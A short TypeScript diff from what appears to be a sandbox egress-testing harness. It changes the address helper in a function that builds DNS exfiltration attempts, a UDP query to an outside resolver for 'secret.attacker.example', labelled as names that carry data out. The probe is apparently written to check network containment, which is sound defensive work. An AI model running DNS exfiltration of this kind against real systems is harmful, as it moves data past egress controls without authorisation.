@@ -1,13 +1,14 @@
+import { internetAddress } from "../../lab";
 import type { Attempt, Through } from "../attempt";
 import type { Ground } from "../ground";
-import { addressOf, asProxy, datagram, python } from "./shell";
+import { asProxy, datagram, python } from "./shell";
 
 const RESOLVER = "resolver.example";
 const QUESTION = "secret.attacker.example";
 
 /** Names that carry data out. */
 export function dnsAttempts(_ground: Ground): Attempt[] {
-  const ask = datagram(addressOf(RESOLVER), 53, query(QUESTION));
+  const ask = datagram(internetAddress(RESOLVER), 53, query(QUESTION));
   return [
     {
       title: "DNS to an outside resolver",
